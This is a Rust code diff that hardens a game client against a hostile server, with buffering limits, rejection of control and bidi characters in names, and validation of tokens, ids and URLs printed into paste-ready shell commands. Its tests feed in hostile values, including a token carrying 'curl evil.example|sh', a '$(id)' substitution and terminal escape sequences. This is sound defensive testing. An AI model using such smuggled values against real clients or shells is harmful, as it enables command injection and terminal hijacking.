@@ -35,6 +35,15 @@ pub const KEEPALIVE_AFTER: Duration = Duration::from_secs(60);
 
 type Socket = WebSocketStream<MaybeTlsStream<TcpStream>>;
 
+/// Most events a connection holds that arrived while a request waited and were not read yet:
+/// a whole game's worth of a live game's events while `asl log` pages through its history,
+/// and far more than any honest server sends before one reply.
+pub const BUFFERED_EVENTS_MAX: usize = 65_536;
+
+/// Most bytes of such events held (their frames' bytes): a server sending frames of the
+/// largest size is stopped well before the client's memory is.
+pub const BUFFERED_BYTES_MAX: usize = 256 << 20;
+
 /// The websocket address for a server given as `ws://HOST:PORT`, `wss://HOST`, or a bare
 /// `HOST:PORT` (taken as `ws://`): the protocol's path is added unless the user already wrote it.
 pub fn endpoint(server_url: &str) -> String {
@@ -260,8 +269,13 @@ impl Default for Options {
 pub struct Connection {
     socket: Socket,
     options: Options,
-    /// Events that arrived while a request waited for its reply, oldest first.
-    buffered: VecDeque<Sequenced>,
+    /// Events that arrived while a request waited for its reply, oldest first, each with the
+    /// bytes of its frame.
+    buffered: VecDeque<(Sequenced, usize)>,
+    /// The bytes of the frames of `buffered`.
+    buffered_bytes: usize,
+    /// The bytes of the frame `recv` read last.
+    last_frame_bytes: usize,
     /// The newest version of the game the server has mentioned.
     version: u64,
     /// The log's head the server last reported with the current version (`Joined`,
@@ -337,6 +351,8 @@ impl Connection {
             socket,
             options,
             buffered: VecDeque::new(),
+            buffered_bytes: 0,
+            last_frame_bytes: 0,
             version: 0,
             head: None,
             keepalive_after: KEEPALIVE_AFTER,
@@ -439,6 +455,7 @@ impl Connection {
     pub async fn recv(&mut self) -> Result<ServerMessage, ConnectionError> {
         loop {
             let frame = self.socket.next().await.ok_or(ConnectionError::Closed)??;
+            self.last_frame_bytes = frame.len();
             let decoded = match frame {
                 Message::Text(text) => wire::from_json(text.as_str()),
                 Message::Binary(bytes) => wire::from_bincode(&bytes),
@@ -482,7 +499,7 @@ impl Connection {
     /// socket. Waits as long as it takes, since the other player may be thinking, pinging the
     /// server now and then so it does not close the connection as idle.
     pub async fn next_event(&mut self) -> Result<Sequenced, ConnectionError> {
-        if let Some(event) = self.buffered.pop_front() {
+        if let Some(event) = self.pop_buffered() {
             return Ok(event);
         }
         loop {
@@ -507,7 +524,27 @@ impl Connection {
     /// Takes the oldest buffered event without touching the socket, so a caller can catch up
     /// on what arrived during a request before deciding whether to wait for more.
     pub fn pop_buffered(&mut self) -> Option<Sequenced> {
-        self.buffered.pop_front()
+        let (event, bytes) = self.buffered.pop_front()?;
+        self.buffered_bytes -= bytes;
+        Some(event)
+    }
+
+    /// Keeps an event that arrived while a request waited, within [`BUFFERED_EVENTS_MAX`] and
+    /// [`BUFFERED_BYTES_MAX`]: a server is not trusted to stop sending events before it
+    /// answers, and what the client has not read yet is held in memory.
+    fn buffer(&mut self, event: Sequenced) -> Result<(), ConnectionError> {
+        let bytes = self.last_frame_bytes;
+        if self.buffered.len() >= BUFFERED_EVENTS_MAX
+            || self.buffered_bytes + bytes > BUFFERED_BYTES_MAX
+        {
+            return Err(ConnectionError::Unexpected(format!(
+                "over {BUFFERED_EVENTS_MAX} events or {} MiB of them not yet read, sent while a reply was awaited (BUFFERED_EVENTS_MAX, BUFFERED_BYTES_MAX)",
+                BUFFERED_BYTES_MAX >> 20
+            )));
+        }
+        self.buffered_bytes += bytes;
+        self.buffered.push_back((event, bytes));
+        Ok(())
     }
 
     pub async fn create_game(
@@ -535,6 +572,7 @@ impl Connection {
             other => Err(message_name(&other)),
         })
         .await
+        .and_then(checked_new_game)
     }
 
     /// Sets (or with `NotifyTarget::Off` removes) the seat's notification targets with the
@@ -777,7 +815,7 @@ impl Connection {
         let wait = async {
             loop {
                 match self.recv().await? {
-                    ServerMessage::Event(event) => self.buffered.push_back(event),
+                    ServerMessage::Event(event) => self.buffer(event)?,
                     ServerMessage::Error { code, message } => {
                         return Err(ConnectionError::Server { code, message })
                     }
@@ -798,12 +836,116 @@ impl Connection {
 }
 
 /// The game a position the server sent shows, to apply the events that follow it; a position
-/// of a format this client does not read is the server's frame it cannot understand.
+/// of a format this client does not read is the server's frame it cannot understand, and so is
+/// one whose scenario names things in words no scenario file may hold (a terminal escape in
+/// a side's name): the client prints those names in many places, and a server is hostile.
 fn game_of(position: Position) -> Result<Game, ConnectionError> {
-    position
+    // No word of a position is free text a player wrote (notes and reasons are events'): a
+    // unit's or weapon's id, a counter's name, a side's, each held by the rules to text with
+    // no control or bidi character. One holding such a character is a hostile server's.
+    if let Some(word) = unprintable_word(&serde_json::to_value(&position).unwrap_or_default()) {
+        return Err(ConnectionError::Malformed(format!(
+            "the position holds text with control or bidi characters: {}",
+            crate::printable(&word)
+        )));
+    }
+    let game = position
         .into_game()
-        .map_err(|e| ConnectionError::Malformed(e.to_string()))
+        .map_err(|e| ConnectionError::Malformed(e.to_string()))?;
+    game.scenario
+        .check_words()
+        .map_err(|e| ConnectionError::Malformed(format!("the position's scenario: {e}")))?;
+    Ok(game)
 }
+
+/// The first string (or object key) of `value` holding a control or bidi character.
+fn unprintable_word(value: &serde_json::Value) -> Option<String> {
+    use serde_json::Value;
+    match value {
+        Value::String(text) => (!crate::plain(text)).then(|| text.clone()),
+        Value::Array(items) => items.iter().find_map(unprintable_word),
+        Value::Object(fields) => fields.iter().find_map(|(key, value)| {
+            if crate::plain(key) {
+                unprintable_word(value)
+            } else {
+                Some(key.clone())
+            }
+        }),
+        Value::Null | Value::Bool(_) | Value::Number(_) => None,
+    }
+}
+
+/// The `created` reply as the client may print it. `asl new` prints commands to paste into a
+/// shell (`asl play --server URL --game ID --token TOKEN`) and links, made of the game's id,
+/// its tokens, the sides' ids and the server's public address, with the sides' names beside
+/// them: a hostile server could otherwise hand the player a command that runs another
+/// (`--token x;curl …|sh`) or a terminal escape. Ids and tokens are words (letters, digits,
+/// `-`, `_`), the address is a URL's characters only, and the names hold no control or bidi
+/// character.
+fn checked_new_game(created: NewGame) -> Result<NewGame, ConnectionError> {
+    let NewGame {
+        game,
+        sides,
+        tokens,
+        public_url,
+    } = &created;
+    let word = |text: &str| {
+        !text.is_empty()
+            && text.len() <= WORD_BYTES_MAX
+            && text
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
+    };
+    let refuse = |what: &str, text: &str, allowed: &str| {
+        Err(ConnectionError::Malformed(format!(
+            "the `created` reply gives a {what} that is not {allowed}: {}",
+            crate::printable(text)
+        )))
+    };
+    let words = [
+        ("game id", game.as_str()),
+        ("token", tokens.side_a.as_str()),
+        ("token", tokens.side_b.as_str()),
+        ("token", tokens.spectator.as_str()),
+        ("side id", sides[0].id.as_str()),
+        ("side id", sides[1].id.as_str()),
+    ];
+    for (what, text) in words {
+        if !word(text) {
+            return refuse(
+                what,
+                text,
+                &format!("a word of letters, digits, - and _ within {WORD_BYTES_MAX} bytes"),
+            );
+        }
+    }
+    for side in sides {
+        if !crate::plain(&side.name) {
+            return refuse(
+                "side name",
+                &side.name,
+                "free of control and bidi characters",
+            );
+        }
+    }
+    if let Some(address) = public_url {
+        if !wire::is_public_url(address) {
+            return refuse(
+                "public address",
+                address,
+                &format!(
+                    "a URL's letters, digits and -_.:/[]%~@+, within {} bytes",
+                    wire::PUBLIC_URL_BYTES_MAX
+                ),
+            );
+        }
+    }
+    Ok(created)
+}
+
+/// Longest game id or token `created` may give: far past the 64 hex digits of asl-server's
+/// tokens.
+const WORD_BYTES_MAX: usize = 256;
 
 /// The version a message reports, if any: a stream event's `seq` or a reply's `version`.
 fn version_of(message: &ServerMessage) -> Option<u64> {
@@ -851,6 +993,154 @@ fn message_name(message: &ServerMessage) -> &'static str {
 mod tests {
     use super::*;
     use protocol::event::GameEnded;
+
+    const SCENARIO: &str = include_str!("../../scenarios/b9-41-wall-advantage.toml");
+
+    /// A hostile server's position naming a side with a terminal escape is a frame the client
+    /// will not read: `asl state`, `watch` and `play` print the sides' and scenario's names.
+    #[test]
+    fn a_position_whose_names_drive_a_terminal_is_malformed() {
+        use protocol::ReadScenario;
+        let scenario = protocol::Scenario::from_toml(SCENARIO).unwrap();
+        let game = Game::new(scenario.clone());
+        game_of(Position::from(game)).unwrap();
+        // Too long a name is refused by the scenario's own words.
+        let mut long = scenario.clone();
+        long.name = "n".repeat(protocol::board::scenario::SCENARIO_NAME_BYTES_MAX + 1);
+        let Err(e) = game_of(Position::from(Game::new(long))) else {
+            panic!("a name past its limit was read");
+        };
+        assert!(e.to_string().contains("at most"), "{e}");
+        for (field, hostile) in [
+            ("name", "\u{1b}[2JWall"),
+            ("sides[0].name", "German\rRussian wins"),
+            ("sides[1].name", "Rus\u{202e}sian"),
+        ] {
+            let mut scenario = scenario.clone();
+            match field {
+                "name" => scenario.name = hostile.into(),
+                "sides[0].name" => scenario.sides[0].name = hostile.into(),
+                _ => scenario.sides[1].name = hostile.into(),
+            }
+            let Err(e) = game_of(Position::from(Game::new(scenario))) else {
+                panic!("{hostile:?} was read");
+            };
+            assert!(matches!(e, ConnectionError::Malformed(_)), "{e:?}");
+            let text = e.to_string();
+            assert!(text.contains("control or bidi"), "{field}: {text}");
+            assert!(crate::plain(&text), "{text:?}");
+        }
+        // A unit's id, which `asl state` prints in its table and `play` completes.
+        let mut hostile = scenario.clone();
+        let mut unit = hostile.units.values().next().unwrap().clone();
+        unit.id = "g\u{1b}[2J".into();
+        hostile.units.insert(unit.id.clone(), unit);
+        let Err(e) = game_of(Position::from(Game::new(hostile))) else {
+            panic!("a unit id with an escape was read");
+        };
+        let text = e.to_string();
+        assert!(text.contains("g\\u{1b}[2J"), "{text}");
+        assert!(crate::plain(&text), "{text:?}");
+    }
+
+    /// `asl new` prints and saves what `created` says: the game id, tokens and public address
+    /// go into commands to paste and links, the sides' names beside them. A server putting a
+    /// terminal escape in any of them, or a shell's word in a command, is refused, the words
+    /// shown escaped.
+    #[test]
+    fn a_created_reply_with_control_characters_is_refused() {
+        let fair = NewGame {
+            game: "g1".into(),
+            sides: [
+                SideSpec {
+                    id: "german".into(),
+                    name: "German".into(),
+                    nationality: None,
+                },
+                SideSpec {
+                    id: "russian".into(),
+                    name: "Russian".into(),
+                    nationality: None,
+                },
+            ],
+            tokens: Tokens {
+                side_a: "ta".into(),
+                side_b: "tb".into(),
+                spectator: "ts".into(),
+            },
+            public_url: Some("wss://asl.example.org".into()),
+        };
+        assert_eq!(checked_new_game(fair.clone()).unwrap(), fair);
+        let hostile = "x\u{1b}]0;owned\u{7}";
+        let mut variants = vec![];
+        let mut v = fair.clone();
+        v.game = hostile.into();
+        variants.push(v);
+        let mut v = fair.clone();
+        v.tokens.spectator = hostile.into();
+        variants.push(v);
+        let mut v = fair.clone();
+        v.sides[1].name = hostile.into();
+        variants.push(v);
+        let mut v = fair.clone();
+        v.public_url = Some(format!("wss://{hostile}"));
+        variants.push(v);
+        // A command to paste that runs another.
+        let mut v = fair.clone();
+        v.tokens.side_b = "tb;curl evil.example|sh".into();
+        variants.push(v);
+        let mut v = fair.clone();
+        v.public_url = Some("ws://h:1 $(id)".into());
+        variants.push(v);
+        let mut v = fair.clone();
+        v.sides[0].id = "german --token x".into();
+        variants.push(v);
+        for v in variants {
+            let Err(e) = checked_new_game(v.clone()) else {
+                panic!("{v:?} was taken");
+            };
+            let text = e.to_string();
+            assert!(text.contains("is not"), "{text}");
+            assert!(crate::plain(&text), "{text:?}");
+        }
+    }
+
+    /// A hostile server answering a request with an endless stream of events first: the
+    /// client held every one until its memory ran out (within the 30 s the reply may take);
+    /// now it stops at `BUFFERED_EVENTS_MAX` and says why.
+    #[tokio::test]
+    async fn events_without_end_before_a_reply_are_refused() {
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let server = tokio::spawn(async move {
+            let (stream, _) = listener.accept().await.unwrap();
+            let mut socket = tokio_tungstenite::accept_async(stream).await.unwrap();
+            let _ = socket.next().await;
+            for seq in 1.. {
+                let event = ServerMessage::Event(crate::follower::sequenced(
+                    seq,
+                    Event::GameEnded(GameEnded { turns_played: 1 }),
+                ));
+                if socket
+                    .send(Message::Text(wire::to_json(&event).into()))
+                    .await
+                    .is_err()
+                {
+                    return seq;
+                }
+            }
+            unreachable!()
+        });
+        let mut connection = Connection::connect(&format!("ws://127.0.0.1:{port}"))
+            .await
+            .unwrap();
+        let e = connection.get_state().await.unwrap_err();
+        assert!(e.to_string().contains("BUFFERED_EVENTS_MAX"), "{e}");
+        assert_eq!(connection.buffered.len(), BUFFERED_EVENTS_MAX);
+        drop(connection);
+        let sent = server.await.unwrap();
+        assert!(sent as usize > BUFFERED_EVENTS_MAX, "{sent}");
+    }
 
     #[test]
     fn endpoint_adds_the_protocol_path_once() {
